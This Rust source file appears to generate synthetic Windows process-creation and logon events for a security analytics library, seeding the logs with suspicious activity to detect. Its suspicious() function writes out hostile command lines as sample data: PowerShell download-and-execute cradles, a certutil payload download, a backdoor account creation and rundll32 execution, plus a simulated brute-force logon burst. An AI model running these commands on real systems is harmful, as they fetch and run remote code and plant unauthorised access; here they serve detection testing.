//! Process creation (4688) and logon (4624/4625) sample events.

use super::rng::SampleRng;
use super::{ACCOUNTS, DOMAIN, HOSTS, SUSPICIOUS_DOMAINS, SUSPICIOUS_IPS, SampleData};
use arrow::array::{ArrayRef, Int64Builder, StringBuilder, TimestampNanosecondBuilder};
use base64::Engine;
use mstic_core::Frame;
use std::sync::Arc;

const SYSTEM32: &str = "C:\\Windows\\System32\\";

/// A process that can start others.
#[derive(Clone)]
struct Running {
    pid: u32,
    image: String,
    user: String,
    logon_id: String,
}

/// What a parent may start: (image, command-line arguments, weight).
fn children_of(parent: &str, server: bool) -> &'static [(&'static str, &'static str, u32)] {
    let name = parent.rsplit('\\').next().unwrap_or(parent).to_ascii_lowercase();
    match name.as_str() {
        "explorer.exe" => &[
            ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer --lang=en-US", 30),
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "", 10),
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "/n \"C:\\Users\\{user}\\Documents\\report.docx\"", 8),
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Users\\{user}\\Documents\\budget.xlsx\"", 8),
            ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Users\\{user}\\Desktop\\notes.txt\"", 6),
            ("C:\\Windows\\System32\\cmd.exe", "", 8),
            ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "", 6),
            ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "--process-start-reason=autostart", 6),
        ],
        "cmd.exe" | "powershell.exe" => &[
            ("C:\\Windows\\System32\\whoami.exe", "/all", 6),
            ("C:\\Windows\\System32\\ipconfig.exe", "/all", 8),
            ("C:\\Windows\\System32\\net.exe", "use", 5),
            ("C:\\Windows\\System32\\PING.EXE", "-n 2 SRV-FILE-01", 8),
            ("C:\\Windows\\System32\\tasklist.exe", "/v", 5),
            ("C:\\Windows\\System32\\findstr.exe", "/i error C:\\Temp\\app.log", 5),
            ("C:\\Program Files\\Git\\cmd\\git.exe", "status", 6),
            ("C:\\Windows\\System32\\reg.exe", "query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", 3),
            ("C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1", 10),
        ],
        "services.exe" if server => &[
            ("C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p", 10),
            ("C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", "-sMSSQLSERVER", 2),
            ("C:\\Windows\\System32\\msiexec.exe", "/V", 2),
        ],
        "services.exe" => &[
            ("C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p", 10),
            ("C:\\Windows\\System32\\svchost.exe", "-k LocalService -p", 6),
            ("C:\\Windows\\System32\\msiexec.exe", "/V", 2),
        ],
        _ => &[
            ("C:\\Windows\\System32\\taskhostw.exe", "", 8),
            ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-Embedding", 6),
            ("C:\\Windows\\System32\\backgroundTaskHost.exe", "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", 5),
            ("C:\\Windows\\System32\\RuntimeBroker.exe", "-Embedding", 6),
            ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2302.7-0\\MpCmdRun.exe", "-wdenable", 3),
            ("C:\\Windows\\System32\\sppsvc.exe", "", 2),
        ],
    }
}

fn is_spawner(image: &str) -> bool {
    let lower = image.to_ascii_lowercase();
    ["explorer.exe", "cmd.exe", "powershell.exe", "services.exe", "svchost.exe"].iter().any(|s| lower.ends_with(s))
}

/// PowerShell's `-EncodedCommand` form: base64 of UTF-16LE text.
pub fn encode_powershell(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(utf16)
}

/// How many kinds of suspicious process [`suspicious`] makes.
const SUSPICIOUS_KINDS: u64 = 5;

/// One suspicious process: (image, command line) started by a user's process.
/// `kind` picks the technique (0–4); `None` picks one at random.
fn suspicious(rng: &mut SampleRng, kind: Option<u64>) -> (String, String) {
    let ip = rng.pick(SUSPICIOUS_IPS);
    let domain = rng.pick(SUSPICIOUS_DOMAINS);
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    match kind.unwrap_or_else(|| rng.below(SUSPICIOUS_KINDS)) {
        0 => {
            let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')");
            (ps.into(), format!("powershell.exe -nop -w hidden -enc {}", encode_powershell(&script)))
        }
        1 => (
            format!("{SYSTEM32}certutil.exe"),
            format!("certutil.exe -urlcache -split -f http://{domain}/update.exe C:\\Users\\Public\\update.exe"),
        ),
        2 => (format!("{SYSTEM32}net.exe"), "net.exe user backdoor P@ssw0rd1 /add".into()),
        3 => (format!("{SYSTEM32}rundll32.exe"), "rundll32.exe C:\\Users\\Public\\update.dll,Start".into()),
        _ => {
            let script = format!("Invoke-WebRequest -Uri https://{domain}/stage2.bin -OutFile $env:TEMP\\s.bin; Start-Process $env:TEMP\\s.bin");
            (ps.into(), format!("powershell.exe -ExecutionPolicy Bypass -EncodedCommand {}", encode_powershell(&script)))
        }
    }
}

/// Per-host state: running processes that may start children, and the next PID.
struct HostState {
    spawners: Vec<Running>,
    next_pid: u32,
}

impl HostState {
    fn new_pid(&mut self, rng: &mut SampleRng) -> u32 {
        self.next_pid += 4 * (1 + rng.below(6) as u32);
        if self.next_pid > 0xFFFC {
            self.next_pid = 0x200;
        }
        self.next_pid
    }
}

/// The boot chain of a host: (image, parent index in this list or none for System).
const BOOT: &[(&str, Option<usize>)] = &[
    ("C:\\Windows\\System32\\smss.exe", None),
    ("C:\\Windows\\System32\\wininit.exe", Some(0)),
    ("C:\\Windows\\System32\\services.exe", Some(1)),
    ("C:\\Windows\\System32\\lsass.exe", Some(1)),
    ("C:\\Windows\\System32\\svchost.exe", Some(2)),
    ("C:\\Windows\\System32\\winlogon.exe", Some(0)),
    ("C:\\Windows\\System32\\userinit.exe", Some(5)),
    ("C:\\Windows\\explorer.exe", Some(6)),
];

struct ProcessColumns {
    time: TimestampNanosecondBuilder,
    event_id: Int64Builder,
    text: Vec<StringBuilder>,
}

const PROCESS_TEXT_COLUMNS: &[&str] = &[
    "Computer", "Account", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "NewProcessId",
    "NewProcessName", "ProcessId", "ParentProcessName", "CommandLine", "TokenElevationType",
];

impl ProcessColumns {
    fn push(&mut self, time: i64, host: &str, parent: &Running, pid: u32, image: &str, command_line: &str) {
        self.time.append_value(time);
        self.event_id.append_value(4688);
        let account = format!("{DOMAIN}\\{}", parent.user);
        let values = [
            host, &account, &parent.user, DOMAIN, &parent.logon_id, &format!("0x{pid:x}"), image,
            &format!("0x{:x}", parent.pid), &parent.image, command_line,
            if parent.user.ends_with('$') { "%%1936" } else { "%%1938" },
        ];
        for (builder, value) in self.text.iter_mut().zip(values) {
            builder.append_value(value);
        }
    }
}

pub(super) fn process_events(sample: &SampleData, n: usize) -> Frame {
    let mut rng = SampleRng::new(sample.seed, 4688);
    let mut columns = ProcessColumns {
        time: TimestampNanosecondBuilder::with_capacity(n).with_timezone("UTC"),
        event_id: Int64Builder::with_capacity(n),
        text: PROCESS_TEXT_COLUMNS.iter().map(|_| StringBuilder::with_capacity(n, n * 24)).collect(),
    };
    let mut hosts: Vec<HostState> = HOSTS.iter().map(|_| HostState { spawners: Vec::new(), next_pid: 0x100 }).collect();
    let mut emitted = 0;
    // Each host boots first, so every later parent exists in the data.
    for (h, host) in HOSTS.iter().enumerate() {
        let machine = format!("{host}$");
        let user = if host.starts_with("WKS") { ACCOUNTS[h % 7].to_string() } else { "administrator".to_string() };
        let mut booted: Vec<Running> = Vec::new();
        for (image, parent) in BOOT {
            if emitted >= n {
                break;
            }
            let system = Running { pid: 4, image: "System".into(), user: machine.clone(), logon_id: "0x3e7".into() };
            let parent = parent.map(|p| booted[p].clone()).unwrap_or(system);
            let pid = hosts[h].new_pid(&mut rng);
            let time = sample.start.timestamp_nanos_opt().unwrap_or(0) + emitted as i64 * 1_000_000;
            let name = image.rsplit('\\').next().unwrap_or(image);
            columns.push(time, host, &parent, pid, image, name);
            emitted += 1;
            let owner = if image.ends_with("explorer.exe") { user.clone() } else { machine.clone() };
            let logon_id = if owner == machine { "0x3e7".to_string() } else { format!("0x{:x}", 0x30000 + rng.below(0xFFFF)) };
            booted.push(Running { pid, image: image.to_string(), user: owner, logon_id });
        }
        hosts[h].spawners = booted.into_iter().filter(|p| is_spawner(&p.image)).collect();
    }
    let mut forced_kind = 0;
    for index in emitted..n {
        let h = rng.below(HOSTS.len() as u64) as usize;
        let host = HOSTS[h];
        let state = &mut hosts[h];
        let parent = rng.pick(&state.spawners).clone();
        let server = !host.starts_with("WKS");
        let is_user = !parent.user.ends_with('$');
        // Every kind of suspicious process appears at least once (spread over the log), plus a
        // few random ones.
        let forced_due = forced_kind < SUSPICIOUS_KINDS
            && index >= n * (forced_kind as usize + 1) / (SUSPICIOUS_KINDS as usize + 1);
        let (image, command_line) = if is_user && forced_due {
            forced_kind += 1;
            suspicious(&mut rng, Some(forced_kind - 1))
        } else if is_user && rng.chance(0.002) {
            suspicious(&mut rng, None)
        } else {
            let (image, args, _) = *rng.weighted_triple(children_of(&parent.image, server));
            let image = image.replace("{user}", &parent.user);
            let name = image.rsplit('\\').next().unwrap_or(&image).to_string();
            let args = args.replace("{user}", &parent.user);
            let line = if args.is_empty() { format!("\"{image}\"") } else { format!("\"{name}\" {args}") };
            (image, line)
        };
        let pid = state.new_pid(&mut rng);
        let time = sample.time_of(index, n, &mut rng);
        columns.push(time, host, &parent, pid, &image, &command_line);
        if is_spawner(&image) && !image.ends_with("services.exe") {
            let child = Running { pid, image, user: parent.user.clone(), logon_id: parent.logon_id.clone() };
            if state.spawners.len() < 64 {
                state.spawners.push(child);
            } else {
                let slot = 4 + rng.below(60) as usize;
                state.spawners[slot] = child;
            }
        }
    }
    let mut arrays: Vec<(String, ArrayRef)> = vec![
        ("TimeGenerated".into(), Arc::new(columns.time.finish())),
        ("EventID".into(), Arc::new(columns.event_id.finish())),
    ];
    for (name, mut builder) in PROCESS_TEXT_COLUMNS.iter().zip(columns.text) {
        arrays.push((name.to_string(), Arc::new(builder.finish())));
    }
    Frame::from_columns(arrays).unwrap_or_else(|e| unreachable!("sample columns have equal lengths: {e}"))
}

trait WeightedTriple {
    fn weighted_triple<'a>(&mut self, items: &'a [(&'static str, &'static str, u32)]) -> &'a (&'static str, &'static str, u32);
}

impl WeightedTriple for SampleRng {
    fn weighted_triple<'a>(&mut self, items: &'a [(&'static str, &'static str, u32)]) -> &'a (&'static str, &'static str, u32) {
        let total: u64 = items.iter().map(|i| i.2 as u64).sum();
        let mut roll = self.below(total);
        for item in items {
            if roll < item.2 as u64 {
                return item;
            }
            roll -= item.2 as u64;
        }
        &items[items.len() - 1]
    }
}

/// The private address of sample host `index`.
pub(super) fn host_ip(index: usize) -> String {
    format!("10.0.1.{}", 10 + index)
}

const LOGON_TEXT_COLUMNS: &[&str] = &[
    "Computer", "Account", "TargetUserName", "TargetDomainName", "TargetLogonId", "LogonProcessName",
    "AuthenticationPackageName", "IpAddress", "WorkstationName", "Status", "SubStatus",
];

pub(super) fn logon_events(sample: &SampleData, n: usize) -> Frame {
    let mut rng = SampleRng::new(sample.seed, 4624);
    let mut time = TimestampNanosecondBuilder::with_capacity(n).with_timezone("UTC");
    let mut event_id = Int64Builder::with_capacity(n);
    let mut logon_type = Int64Builder::with_capacity(n);
    let mut text: Vec<StringBuilder> = LOGON_TEXT_COLUMNS.iter().map(|_| StringBuilder::with_capacity(n, n * 12)).collect();
    // A brute-force burst against the web server from a public address, ending in a success.
    let burst = (n / 50).max(if n >= 20 { 5 } else { 0 });
    let burst_start = n * 3 / 5;
    let attacker = SUSPICIOUS_IPS[1];
    for index in 0..n {
        let mut t = sample.time_of(index, n, &mut rng);
        let in_burst = index >= burst_start && index < burst_start + burst;
        let (host, user, kind, ip, workstation, failed, status): (usize, &str, i64, String, String, bool, (&str, &str));
        if in_burst {
            t = sample.time_of(burst_start, n, &mut rng) + (index - burst_start) as i64 * 2_000_000_000;
            host = 6;
            let last = index + 1 == burst_start + burst;
            user = if last { "administrator" } else { *rng.pick(&["administrator", "admin", "test", "user", "guest", "sqladmin"]) };
            (kind, ip, workstation, failed) = (10, attacker.to_string(), "kali".to_string(), !last);
            status = if last { ("0x0", "0x0") } else { ("0xc000006d", "0xc000006a") };
        } else {
            host = rng.below(HOSTS.len() as u64) as usize;
            let roll = rng.below(100);
            let account = *rng.pick(ACCOUNTS);
            if HOSTS[host].starts_with("WKS") && roll < 40 {
                (user, kind, ip, workstation) = (ACCOUNTS[host % 7], 2, "127.0.0.1".into(), HOSTS[host].into());
            } else if roll < 55 {
                (user, kind, ip, workstation) = (if host % 2 == 0 { "svc_backup" } else { "svc_sql" }, 5, "-".into(), "-".into());
            } else if roll < 65 && !HOSTS[host].starts_with("WKS") {
                (user, kind, ip, workstation) = ("administrator", 10, host_ip(3), HOSTS[3].into());
            } else {
                let from = rng.below(4) as usize;
                (user, kind, ip, workstation) = (account, 3, host_ip(from), HOSTS[from].into());
            }
            failed = rng.chance(0.03);
            status = if failed { *rng.pick(&[("0xc000006d", "0xc000006a"), ("0xc000006d", "0xc0000064")]) } else { ("0x0", "0x0") };
        }
        time.append_value(t);
        event_id.append_value(if failed { 4625 } else { 4624 });
        logon_type.append_value(kind);
        let (process, package) = if kind == 3 { ("NtLmSsp ", "NTLM") } else { ("User32 ", "Negotiate") };
        let logon_id = if failed { "0x0".to_string() } else { format!("0x{:x}", 0x10000 + rng.below(0xFFFFF)) };
        let account = format!("{DOMAIN}\\{user}");
        let values =
            [HOSTS[host], &account, user, DOMAIN, &logon_id, process, package, &ip, &workstation, status.0, status.1];
        for (builder, value) in text.iter_mut().zip(values) {
            builder.append_value(value);
        }
    }
    let mut arrays: Vec<(String, ArrayRef)> = vec![
        ("TimeGenerated".into(), Arc::new(time.finish())),
        ("EventID".into(), Arc::new(event_id.finish())),
        ("LogonType".into(), Arc::new(logon_type.finish())),
    ];
    for (name, mut builder) in LOGON_TEXT_COLUMNS.iter().zip(text) {
        arrays.push((name.to_string(), Arc::new(builder.finish())));
    }
    Frame::from_columns(arrays).unwrap_or_else(|e| unreachable!("sample columns have equal lengths: {e}"))
}
